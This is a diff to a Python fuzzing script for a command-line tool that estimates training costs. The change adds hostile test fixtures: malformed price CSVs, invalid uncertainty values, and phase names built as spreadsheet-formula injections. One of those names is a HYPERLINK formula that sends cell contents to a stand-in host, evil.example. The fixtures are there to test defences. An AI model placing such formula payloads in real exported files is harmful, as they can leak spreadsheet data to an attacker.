@@ -6,7 +6,9 @@ Run:  python benchmarks/fuzz_cli.py --count 10000 --seed 0 [--workers 2] [--time
 Each line is drawn from the typer app itself (every command and subcommand, every option
 with its type), with valid, extreme (0, -1, nan, inf, 1e400, 2**63, ...) and malformed
 values (empty, unicode, newlines, unknown ids), user files (good, invalid, Latin-1,
-UTF-16, binary, bad TOML), catalog directories (good, bad, symlink loop, /, /proc) and
+UTF-16, binary, bad TOML; scenarios with phases named like formulas or mathtext and with
+invalid [uncertainty] spreads), catalog directories (good, bad, symlink loop, /, /proc,
+price files with bad cells, a byte-order mark or over the size limit) and
 output targets (missing directory, a directory, an existing file, /proc, '').  Line ``i``
 of seed ``S`` is the same on every machine (``random.Random(f"{S}:{i}")``).
 
@@ -18,6 +20,7 @@ fails fast instead of taking the machine down.  Each run is checked for
 - a traceback (an exception escaping ``main``, or "Traceback" on stderr),
 - an exit code outside {0, 1, 2, 130},
 - error output on stderr that is not exactly one line,
+- a Python warning on stderr (``RuntimeWarning: overflow ...``), whatever the exit code,
 - with ``-f json`` and exit 0: a non-finite or negative physical output (days, cost,
   energy, CO2e, times, power, bytes, ...),
 
@@ -102,6 +105,10 @@ VALID = {
 HANG_PRONE = {"global_batch", "replicas", "draws", "weibull_shape", "max_gpus", "min_gpus",
               "gpus", "seq_len", "micro_batch", "top", "train_days", "gpu_mtbf_hours",
               "node_mtbf_hours", "tokens"}
+#: Share of lines (with the "files" category) that give a command taking --scenario or
+#: --catalog one of the hostile fixtures (phase names, spreads, price files): among a dozen
+#: files of each role and many options they would be drawn once in a few hundred lines.
+HOSTILE_SHARE = 0.08
 #: Commands drawn less often (slow: matplotlib, every published measurement).
 WEIGHT = {("validate",): 0.3, ("plot",): 0.5, ("export", "xlsx"): 0.5}
 
@@ -116,6 +123,26 @@ CHIP = "\n".join([
     "embodied_kg_co2e = 150", "lifetime_years = 4", ""])
 SCENARIO = ('model = "llama3-8b"\ntokens = 1e11\nhardware = "h100-sxm,mi300x"\nmax_gpus = 512\n'
             'site = "us-average"\nobjective = "time"\n')
+#: Names a hostile user gives phases: spreadsheet formulas (OWASP CSV injection) and
+#: mathtext (matplotlib reads "$x^$" as a formula); the exports must keep them as text.
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/"&A1,"click")', "+1", "-cmd", "@SUM(1)",
+                 "\t=1", "$x^$"]
+#: [uncertainty] spreads no plan may use: a non-finite, huge or negative sigma, a scope
+#: that does not exist (each a one-line refusal, exit 2, or a correct answer).
+HOSTILE_SPREADS = {"nan": '{ sigma = nan, scope = "shared" }', "huge": "{ sigma = 1e6 }",
+                   "negative": "{ sigma = -1 }", "scope": '{ sigma = 0.1, scope = "galaxy" }',
+                   "inf": "{ sigma = inf }"}
+#: A price file's header, and one good row (8 x H100 at 24 USD an hour).
+PRICE_HEADER = ("provider,instance_type,accelerator,accelerator_count,gpu_memory_gib,region,"
+                "on_demand_usd_per_hour,spot_usd_per_hour,on_demand_usd_per_gpu_hour,"
+                "spot_usd_per_gpu_hour,marketplace,source_path,source_commit\n")
+PRICE_ROW = "fuzzcloud,x8,H100,{count},80,r1,{price},,,,false,fuzz,local\n"
+#: Price files with a bad cell (count, instance price), each under its own --catalog DIR.
+HOSTILE_PRICES = {"count-inf": ("inf", "24"), "count-huge": ("1e308", "24"),
+                  "count-zero": ("0", "24"), "count-2000": ("2000", "24"),
+                  "price-denormal": ("8", "1e-320"), "price-huge": ("8", "1e308"),
+                  "price-negative": ("8", "-3"), "price-nan": ("8", "nan"),
+                  "price-text": ("8", "cheap"), "provider-formula": ("8", "24")}
 
 
 # --- fixtures ------------------------------------------------------------------------------
@@ -133,6 +160,7 @@ def make_fixtures(root: Path) -> dict[str, list[str]]:
         return str(path)
 
     from hardware_catalog.loader import DATA_DIR
+    from hardware_catalog.price_schema import MAX_PRICE_FILE_BYTES
 
     latin = (SHAPE + 'name = "caf\u00e9"\n')
     models = [
@@ -154,6 +182,24 @@ def make_fixtures(root: Path) -> dict[str, list[str]]:
                  put("s/utf16.toml", SCENARIO.encode("utf-16")),
                  put("s/bom.toml", codecs.BOM_UTF8 + SCENARIO.encode()),
                  put("s/broken.toml", "model = \n")]
+    phases = "".join(f"\n[[phases]]\nname = {json.dumps(name)}\ntokens = 1e10\n"
+                     for name in HOSTILE_NAMES)
+    scenarios.append(put("s/hostile-names.toml", 'model = "llama3-8b"\nhardware = "h100-sxm"\n'
+                         "max_gpus = 256\n" + phases))
+    scenarios += [put(f"s/spread-{name}.toml", SCENARIO + f"[uncertainty]\ngpu_mtbf_s = {spread}\n")
+                  for name, spread in HOSTILE_SPREADS.items()]
+    prices = []
+    for name, (count, price) in HOSTILE_PRICES.items():
+        row = PRICE_ROW.format(count=count, price=price)
+        if name == "provider-formula":
+            row = row.replace("fuzzcloud", "=HYPERLINK(1)")
+        put(f"p-{name}/prices/x.csv", PRICE_HEADER + row)
+        prices.append(str(root / f"p-{name}"))
+    put("p-bom/prices/x.csv", codecs.BOM_UTF8 + (PRICE_HEADER + PRICE_ROW.format(
+        count="8", price="24")).encode())
+    put("p-oversize/prices/x.csv", PRICE_HEADER + "#" * MAX_PRICE_FILE_BYTES)
+    prices += [str(root / "p-bom"), str(root / "p-oversize")]
+    hostile = {"scenario": scenarios[-1 - len(HOSTILE_SPREADS):], "catalog": prices}
     put("c-good/models/what-if.toml", SHAPE)
     put("c-good/accelerators/chip-x.toml", CHIP)
     put("c-bad/models/bad.toml", "layers = -3\n")
@@ -163,9 +209,11 @@ def make_fixtures(root: Path) -> dict[str, list[str]]:
     with contextlib.suppress(FileExistsError):
         os.symlink(root / "c-loop", root / "c-loop" / "models" / "loop")
     catalogs = [str(root / "c-good"), str(root / "c-bad"), str(root / "c-enc"),
-                str(root / "c-loop"), str(root / "no-such-dir"), models[0], "/", "/proc"]
+                str(root / "c-loop"), str(root / "no-such-dir"), models[0], "/", "/proc",
+                *prices]
     return {"model": models, "hardware": chips, "scenario": scenarios, "catalog": catalogs,
-            "missing": [str(root / "missing.toml")], "not_a_dir": [models[0] + "/out.csv"]}
+            "missing": [str(root / "missing.toml")], "not_a_dir": [models[0] + "/out.csv"],
+            "hostile_scenario": hostile["scenario"], "hostile_catalog": hostile["catalog"]}
 
 
 #: Output targets, relative to the run's own directory (``exists.json`` is created there).
@@ -302,7 +350,7 @@ class Grammar:
             if name == "reliability":
                 extra = ["default"]
             return pick.choice(ids + extra)
-        if name == "scenario":
+        if name in ("scenario", "scenario_file"):  # --scenario's parameter: scenario_file
             return self.fixtures["scenario"][0]
         if name == "catalog":
             return self.fixtures["catalog"][0]
@@ -322,7 +370,7 @@ class Grammar:
         if param.name in ("output", "path") or (param.name == "plot"):
             return self._output(pick, plot=param.name == "plot" or command.path == ("plot",))
         role = {"model": "model", "hardware": "hardware", "scenario": "scenario",
-                "catalog": "catalog"}.get(param.name)
+                "scenario_file": "scenario", "catalog": "catalog"}.get(param.name)
         if param.name == "name" and command.path == ("catalog", "show"):
             role = "model"
         roll = pick.integer(0, 99)
@@ -349,6 +397,8 @@ class Grammar:
 
     # lines ------------------------------------------------------------------------------
     def line(self, pick) -> list[str]:
+        if "files" in self.categories and pick.chance(HOSTILE_SHARE):
+            return self.hostile_line(pick)
         weights = [WEIGHT.get(c.path, 1.0) for c in self.commands]
         total = sum(weights)
         spot, acc = pick.integer(0, 10_000) / 10_000 * total, 0.0
@@ -360,11 +410,26 @@ class Grammar:
                 break
         return self.line_for(pick, command)
 
-    def line_for(self, pick, command: Command) -> list[str]:
+    def hostile_line(self, pick) -> list[str]:
+        """A line of a command taking --scenario (or --catalog) given a hostile fixture:
+        a scenario with formula/mathtext phase names or invalid spreads, a catalog with a
+        bad price file."""
+        role = pick.choice(["scenario", "catalog"])
+        takers = [(c, p.name) for c in self.commands for p in c.params
+                  if p.flag == f"--{role}"]
+        command, name = pick.choice(takers)
+        return self.line_for(pick, command,
+                             {name: pick.choice(self.fixtures[f"hostile_{role}"])})
+
+    def line_for(self, pick, command: Command, forced: dict[str, str] | None = None,
+                 ) -> list[str]:
+        """A line of ``command``; ``forced``: options always given, with these values."""
+        forced = forced or {}
         argv = list(command.path)
         options = [p for p in command.params if p.flag]
         arguments = [p for p in command.params if not p.flag]
-        chosen = [p for p in options if p.required or p.name in self.always]
+        chosen = [p for p in options if p.required or p.name in self.always
+                  or p.name in forced]
         optional = [p for p in options if not p.required]
         for _ in range(pick.integer(0, min(6, len(optional)))):
             p = pick.choice(optional)
@@ -381,7 +446,9 @@ class Grammar:
         if fmt is not None and fmt not in chosen and pick.chance(0.5):
             argv += ["-f", "json"]
         for p in chosen:
-            if p.kind == "bool":
+            if p.name in forced:
+                argv += [p.flag, forced[p.name]]
+            elif p.kind == "bool":
                 argv.append(p.secondary if p.secondary and pick.chance(0.5) else p.flag)
             else:
                 argv += [p.flag, self.value(pick, p, command)]
@@ -446,6 +513,9 @@ class Outcome:
     seconds: float = 0.0
 
 
+#: A Python warning printed to stderr ("file:line: RuntimeWarning: overflow ..."): an
+#: input the code did not expect reached numpy, whatever the exit code.
+_WARNING = re.compile(r":\d+: (\w*Warning): ")
 #: Commands that print catalog data, not model outputs (null there means "no data").
 DATA_COMMANDS = {"prices", "catalog"}
 
@@ -461,6 +531,9 @@ def failures(outcome: Outcome) -> list[str]:
         found.append(f"traceback on stderr in `{cmd}`")
     if outcome.code is not None and outcome.code not in ALLOWED_EXIT_CODES:
         found.append(f"exit code {outcome.code} in `{cmd}`")
+    warning = _WARNING.search(outcome.stderr)
+    if warning and outcome.error is None:
+        found.append(f"{warning.group(1)} on stderr in `{cmd}`")
     if outcome.code not in (None, 0) and outcome.error is None:
         lines = [line for line in outcome.stderr.splitlines() if line.strip()]
         if len(lines) != 1 and not outcome.stderr.startswith("Usage:"):
